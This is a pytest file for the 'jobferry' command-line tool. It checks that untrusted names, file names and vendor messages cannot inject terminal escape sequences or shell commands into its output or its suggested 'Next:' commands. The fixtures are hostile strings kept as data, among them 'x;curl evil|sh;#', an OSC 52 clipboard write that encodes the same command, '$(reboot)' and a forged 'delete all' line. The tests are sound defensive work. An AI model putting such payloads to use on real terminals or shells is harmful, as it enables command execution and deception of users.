"""Names, cells, keys and a vendor's words: none steers the terminal, none becomes a command."""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from pathlib import Path

import pytest

from jobferry.domain.commands import command
from jobferry.domain.connection import Connection
from jobferry.domain.outcome import OutcomeStatus, RecordResult
from jobferry.domain.run import Run, RunStatus, Source
from jobferry.operator.next_steps import next_steps
from jobferry.vendors.answers import Refused
from jobferry_cli import main
from jobferry_cli.errors import CommandError, ExitCode
from jobferry_cli.output import printable
from tests.unit.cli.shell import Answer, Shell, client_error
from virtual.vendor import FakeClient
from virtual.world import sample_csv

TITLE = "\x1b]0;owned\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
COMMAND = "x;curl evil|sh;#"
BIDI = "\u202egnp.exe"
LINE = "a\nNext:  jobferry delete all"
FOREIGN = [TITLE, CLIPBOARD, COMMAND, BIDI, LINE, "$(reboot)", 'it\'s `id` "x"']


def is_clean(answer: Answer) -> bool:
    """Whether no character of an answer steers a terminal."""
    lines = f"{answer.stdout}\n{answer.stderr}".split("\n")
    return all(line.isprintable() for line in lines)


def commands_of(text: str) -> Iterator[list[str]]:
    """The words of each next command, as a shell takes them."""
    for line in text.splitlines():
        if line.startswith("Next:"):
            lexer = shlex.shlex(line.removeprefix("Next:"), posix=True, punctuation_chars=True)
            lexer.whitespace_split = True
            yield list(lexer)


def put_run(shell: Shell, name: str, **more: object) -> Run:
    run = Run(
        run_id=f"{name}-0123456789",
        status=RunStatus.FAILED,
        profile=name,
        revision=0,
        connection="",
        operation="",
        source=Source("inbox", f"inbox/{name}/{name}.csv", "v1"),
        started_at=shell.world.clock.now(),
        error=f"no {name}",
        origin=f"{name}-9876543210",
        **more,  # type: ignore[arg-type]
    )
    assert shell.world.store.runs.create(run)
    return run


@pytest.mark.parametrize("name", FOREIGN)
@pytest.mark.parametrize("verb", ["status", "rows", "abort", "retry", "resume", "watch", "results"])
def test_a_run_of_any_name(shell: Shell, tmp_path: Path, name: str, verb: str) -> None:
    run = put_run(shell, name)
    shell.world.store.runs.close(run.run_id, RunStatus.FAILED, shell.world.clock.now(), {}, {})
    answer = shell(verb, run.run_id, *(["--out", tmp_path] if verb == "results" else []))

    assert is_clean(answer), answer
    for words in commands_of(answer.stdout + answer.stderr):
        assert words[0] == "jobferry"
        assert not set(words) & {";", "|", "&", "$", "`", "curl"}


@pytest.mark.parametrize("name", FOREIGN)
def test_a_list_of_runs(shell: Shell, name: str) -> None:
    put_run(shell, name)
    put_run(shell, f"{name}2")

    assert is_clean(shell("runs", "--limit", "1"))


@pytest.mark.parametrize("name", FOREIGN)
def test_next_commands_of_the_document_are_shell_words(name: str) -> None:
    document = {
        "run_id": f"{name}-1",
        "profile": name,
        "connection": name,
        "status": "failed",
        "closed_at": "t",
        "paused": None,
        "outcomes": dict.fromkeys(OutcomeStatus, 1),
        "failed_by_class": {"row": 1, "account": 1, "vendor": 1},
        "source": {"key": f"inbox/p/{name}"},
        "error": "e",
        "error_code": None,
        "waiting": [{"for": "problem"}, {"for": "rate_limit"}, {"for": "vendor_unreachable"}],
    }
    for changes in (
        {},
        {"status": "aborted"},
        {"status": "unresolved"},
        {"closed_at": None},
        {"paused": {"code": "policy", "reason": "r"}},
    ):
        steps = next_steps({**document, **changes})
        for each in (each for step in steps for each in step.commands):
            words = shlex.split(each)
            assert words[0] == "jobferry"
            assert any(name in word for word in words[1:])


def test_a_file_with_blanks_and_quotes_is_one_word(shell: Shell, tmp_path: Path) -> None:
    shell.world.put_profile({})
    file = tmp_path / 'it\'s "a; file".csv'
    file.write_text("Title\nx\n")
    answer = shell("plna", file, "--profile", "things")

    assert answer.code == ExitCode.INPUT
    (words,) = commands_of(answer.stderr)
    assert words == ["jobferry", "plan", str(file), "--profile", "things"]


@pytest.mark.parametrize("text", [TITLE, CLIPBOARD, BIDI, LINE])
def test_a_file_whose_name_steers(shell: Shell, tmp_path: Path, text: str) -> None:
    shell.world.put_profile({})
    file = tmp_path / f"{text}.csv"
    file.write_text(sample_csv(2) + "\n,nameless\n")

    assert is_clean(shell("plan", file, "--profile", "things"))
    assert is_clean(shell("plan", f"{file}.gone", "--profile", "things"))
    assert is_clean(shell("profile", "put", file))
    assert is_clean(shell("plan", file, file, "--profile", "things"))
    assert is_clean(shell(text))


@pytest.mark.parametrize("text", [TITLE, CLIPBOARD, BIDI, LINE])
def test_what_the_vendor_says_to_a_test(
    shell: Shell, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.setattr(FakeClient, "test", lambda _: Refused("no", text, http_status=403))
    answer = shell("connection", "test", "acme")

    assert answer.code == ExitCode.SERVICE
    assert printable(text) in answer.stderr
    assert is_clean(answer)
    assert len(answer.stderr.splitlines()) == 2


@pytest.mark.parametrize("text", [TITLE, CLIPBOARD, BIDI, LINE])
def test_what_the_vendor_says_of_rows(shell: Shell, text: str) -> None:
    shell.world.account.result_of = lambda _: RecordResult(
        OutcomeStatus.FAILED, vendor_id=None, code="Invalid", text=text
    )
    run = shell.world.processed(sample_csv(3))

    for words in (("rows",), ("status",), ("watch",)):
        assert is_clean(shell(*words, run.run_id))


@pytest.mark.parametrize("text", [TITLE, BIDI])
def test_a_connection_that_was_put_by_somebody_else(shell: Shell, text: str) -> None:
    shell.world.store.config.put_connection(
        Connection(text, "zendesk_support", f"https://{text}.example")
    )

    assert is_clean(shell("connection", "list"))
    assert is_clean(shell("connection", "show", text))


@pytest.mark.parametrize("text", [TITLE, BIDI, LINE])
def test_what_aws_says(shell: Shell, monkeypatch: pytest.MonkeyPatch, text: str) -> None:
    def fail(*_: object) -> None:
        raise client_error("AccessDenied", text)

    monkeypatch.setattr(shell.world.deps.store.runs, "get", fail)
    answer = shell("status", "things-1")

    assert is_clean(answer)
    assert len(answer.stderr.splitlines()) == 2


def test_what_nobody_expected_steers_no_terminal_either(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def fail() -> None:
        raise ValueError(TITLE)

    monkeypatch.setattr(main, "cli", fail)
    with pytest.raises(SystemExit) as ended:
        main.main()

    assert ended.value.code == 1
    told = capsys.readouterr().err
    assert told.startswith("Traceback")
    assert "ValueError: ␛]0;owned␇" in told


def test_an_error_is_shown_on_lines_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    CommandError(f"no {LINE}", details=[TITLE], next_command=command("status", LINE)).show()

    assert capsys.readouterr().err.splitlines() == [
        "Error: no a␊Next:  jobferry delete all",
        "  ␛]0;owned␇",
        "Next:  jobferry status 'a␊Next:  jobferry delete all'",
    ]
